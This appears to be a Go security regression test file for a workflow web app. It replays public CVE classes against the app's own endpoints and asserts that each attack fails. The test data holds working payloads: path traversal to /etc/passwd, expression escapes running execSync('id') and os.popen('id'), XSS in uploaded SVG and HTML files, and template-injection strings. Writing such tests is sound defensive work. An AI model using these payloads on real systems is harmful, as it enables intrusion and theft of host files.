package web_test

import (
	"fmt"
	"html"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"heddle/internal/flow"
)

// TestRecipes replays how others of this field were broken into in public. Each recipe
// is a class, not one product's bug: what worked there is tried here in our own terms.
func TestRecipes(t *testing.T) {
	s := newSite(t)
	of := s.belongings()
	t.Run("a file of the host by a JSON upload handle, without an account", func(t *testing.T) { // CVE-2026-21858 (n8n)
		handle := `{"files":{"file":{"filepath":"/etc/passwd","originalFilename":"x","mimetype":"text/plain","size":10}},"data":{}}`
		for _, path := range []string{"/api/files", "/workflows/import", "/api/webhooks/clerk", "/api/execute", "/setup", "/signin"} {
			for _, h := range []header{nil, s.bob.byCookie(), s.bob.byToken()} {
				s.noWayIn(t, "POST", path, handle, with(header{}, flat(h)))
			}
		}
		for _, ref := range []string{"/etc/passwd", "../../../../etc/passwd", "file:///etc/passwd", `..\\..\\etc\\passwd`, "file_/etc/passwd"} {
			for _, data := range []string{`{"file":{"$file":%q}}`, `{"file":%q}`, `{"url":%q}`} {
				id := s.run(s.bob, `"nodes":[{"id":"i","type":"image","data":`+fmt.Sprintf(data, ref)+`},{"id":"d","type":"debug","data":{}}],"edges":[{"id":"e","source":"i","target":"d"}]`)
				s.ended(s.bob, id)
				s.noWayIn(t, "GET", "/api/runs/"+id, "", s.bob.byToken())
			}
		}
	})
	t.Run("an expression that leaves its language", func(t *testing.T) { // CVE-2025-68613 (n8n), CVE-2025-59528 (Flowise)
		for _, e := range []string{
			`constructor.constructor('return process')().env`, `this.constructor.constructor("return this.process.mainModule.require('child_process').execSync('id')")()`,
			`__import__('os').popen('id').read()`, `a.__class__.__mro__[1].__subclasses__()`, `[].filter.constructor('return globalThis')()`, `env("HOME")`, `file("/etc/passwd")`,
		} {
			for _, node := range []string{
				`{"id":"x","type":"transform","data":{"expression":%q}}`, `{"id":"x","type":"condition","data":{"expression":%q}}`, `{"id":"x","type":"text","data":{"text":"{{` + "%s" + `}}"}}`,
			} {
				quoted := fmt.Sprintf(node, e)
				if strings.Contains(node, `"%s`) || strings.Contains(node, "{{%s") {
					quoted = fmt.Sprintf(node, strings.NewReplacer(`"`, `\"`, `\`, `\\`).Replace(e))
				}
				a := s.do("POST", "/api/execute", `{"nodes":[`+quoted+`],"edges":[]}`, s.bob.byToken())
				if a.status == http.StatusAccepted {
					id := decode[struct{ RunID string }](t, a).RunID
					s.ended(s.bob, id)
					a = s.do("GET", "/api/runs/"+id, "", s.bob.byToken())
				}
				if strings.Contains(a.body, "uid=") || strings.Contains(a.body, "root:") || strings.Contains(a.body, "PATH=") {
					t.Errorf("%s: %s", quoted, a.body)
				}
			}
		}
	})
	t.Run("code that runs when it is only looked at", func(t *testing.T) { // CVE-2025-3248 (Langflow)
		spin := `{"id":"c","type":"code","data":{"code":"while(true){}"}}`
		began := time.Now()
		s.noWayIn(t, "POST", "/api/v1/validate/code", `{"code":"@exec(\"import os\")\ndef f(): pass"}`, nil)
		for _, h := range []header{s.bob.byToken(), s.bob.byCookie()} {
			s.do("POST", "/api/execute?dryRun=1", `{"nodes":[`+spin+`],"edges":[]}`, with(header{}, flat(h)))
			s.do("POST", "/api/workflows", `{"name":"c","nodes":[`+spin+`],"edges":[]}`, with(header{}, flat(h)))
		}
		wf := s.workflow(s.bob, "inspect")
		s.do("POST", "/workflows/"+wf+"/inspector", `{"node":`+spin+`}`, s.bob.byCookie())
		if took := time.Since(began); took > 5*time.Second { // the code alone would take its 10
			t.Errorf("looking at code took %s", took)
		}
	})
	t.Run("a public build with a definition of one's own", func(t *testing.T) { // CVE-2026-33017 (Langflow)
		for _, path := range []string{"/api/execute", "/api/execute?dryRun=1", "/api/v1/build_public_tmp/" + of["workflows"] + "/flow", "/api/workflows"} {
			if a := s.do("POST", path, `{"name":"x",`+hello+`}`, header{"Cookie": "client_id=x"}); a.status < 400 {
				t.Errorf("%s without an account: %d %s", path, a.status, a.body)
			}
		}
		if a := s.do("POST", "/api/execute", fmt.Sprintf(`{"workflowId":%q,%s}`, of["workflows"], hello), s.bob.byToken()); a.status != 403 {
			t.Errorf("one's own graph in the name of another's workflow: %d", a.status)
		}
	})
	t.Run("a credential of another user by its id", func(t *testing.T) { // V5: an id in a body without an owner check
		for _, data := range []string{`{"url":"https://canary-ann.example/","secret":"CANARY"}`, `{"url":"https://canary-ann.example/","headers":{"X":"{{secret.CANARY}}"}}`} {
			id := s.run(s.bob, `"nodes":[{"id":"h","type":"http","data":`+data+`}],"edges":[]`)
			if status := s.ended(s.bob, id); status != flow.RunFailed {
				t.Errorf("the run is %s", status)
			}
			if a := s.do("GET", "/api/runs/"+id, "", s.bob.byToken()); !strings.Contains(a.body, "There is no secret called CANARY") {
				t.Errorf("it was not refused for the right reason: %.400s", a.body)
			}
		}
	})
	t.Run("SVG and HTML as output", func(t *testing.T) {
		for name, content := range map[string]string{
			"x.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`, "x.html": `<!doctype html><script>alert(1)</script>`,
			"x.png": `<html><script>alert(1)</script>`, "x.xml": `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>`,
			"x.gif": "GIF89a/*<svg/onload=alert(1)>*/=1;alert(1)", "\"><img src=x onerror=alert(1)>.txt": "text",
		} {
			body, kind := form(t, name, content)
			a := s.do("POST", "/api/files", body, s.bob.byToken("Content-Type", kind))
			if a.status != http.StatusCreated {
				continue // refused is as good
			}
			a = s.do("GET", "/api/files/"+decode[struct{ File struct{ ID string } }](t, a).File.ID, "", s.bob.byCookie())
			shown := strings.HasPrefix(a.header.Get("Content-Disposition"), "inline")
			if shown && !strings.HasPrefix(a.header.Get("Content-Type"), "image/gif") || !strings.Contains(a.header.Get("Content-Security-Policy"), "sandbox") || a.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s is answered as %v", name, a.header)
			}
		}
		id := s.run(s.bob, part(`<script>alert(1)</script><img src=x onerror=alert(1)>`))
		s.ended(s.bob, id)
		if a := s.do("GET", "/runs/"+id, "", s.bob.byCookie()); strings.Contains(a.body, "<img src=x") || strings.Contains(a.body, "<script>alert") {
			t.Error("an output became part of the page")
		}
	})
	t.Run("a path where an id belongs", func(t *testing.T) { // CVE-2025-26319 (Flowise)
		for _, way := range []string{"../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd", "..%5c..%5cetc%5cpasswd", "%00/etc/passwd", "/etc/passwd", "..%252f..%252fetc%252fpasswd"} {
			for _, at := range []string{"/api/files/", "/api/values/", "/static/", "/runs/", "/workflows/", "/api/runs/"} {
				s.noWayIn(t, "GET", at+way, "", s.bob.byCookie())
				s.noWayIn(t, "GET", at+way, "", nil)
			}
			body, kind := form(t, way, "harmless")
			s.noWayIn(t, "POST", "/api/files", body, s.bob.byToken("Content-Type", kind))
		}
	})
}

// flat makes a header's pairs a list.
func flat(h header) []string {
	var out []string
	for k, v := range h {
		out = append(out, k, v)
	}
	return out
}

// noWayIn fails when an answer has what only the host's own files have.
func (s *site) noWayIn(t *testing.T, method, path, body string, h header) {
	t.Helper()
	a := s.do(method, strings.ReplaceAll(path, `\`, "%5c"), body, h)
	if strings.Contains(a.body, "root:") || strings.Contains(a.body, canary) || a.status >= 500 {
		t.Errorf("%s %s: %d %.300s", method, path, a.status, a.body)
	}
}

// TestB6_TemplatesInTextStayText names workflows with a hundred payloads for template
// engines: each is on the page as it was written, and none was computed.
func TestB6_TemplatesInTextStayText(t *testing.T) {
	if testing.Short() {
		t.Skip("-SHORT: one request after the other, nothing for the race detector")
	}
	s := newSite(t)
	const product = "9801547"
	var payloads []string
	for _, sum := range []string{"1337*7331", "1337 * 7331", "'1337'*7331", ".Mul 1337 7331", "printf \"%d\" 9801547 | len", "1337|mul:7331", "print(1337*7331)", "len .Users", "self.__init__", "#root.env"} {
		for _, around := range []string{"{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% %s %%}", "{{{%s}}}", "[[%s]]", "@(%s)", "*{%s}", "{{=%s}}"} {
			payloads = append(payloads, fmt.Sprintf(around, sum))
		}
	}
	if len(payloads) != 100 {
		t.Fatalf("%d payloads", len(payloads))
	}
	for chunk := range slices.Chunk(payloads, 10) {
		var ids []string
		for _, p := range chunk {
			ids = append(ids, s.workflow(s.ann, p))
		}
		page := s.do("GET", "/workflows", "", s.ann.byCookie()).body
		for i, p := range chunk {
			editor := s.do("GET", "/workflows/"+ids[i], "", s.ann.byCookie()).body
			for name, body := range map[string]string{"list": page, "editor": editor} {
				if !strings.Contains(html.UnescapeString(body), p) {
					t.Errorf("%q is not on the %s as it was written", p, name)
				}
				if strings.Contains(strings.ReplaceAll(html.UnescapeString(body), p, ""), product) && !strings.Contains(p, product) {
					t.Errorf("%q was computed on the %s", p, name)
				}
			}
			s.do("DELETE", "/api/workflows/"+ids[i], "", s.ann.byToken())
		}
	}
}
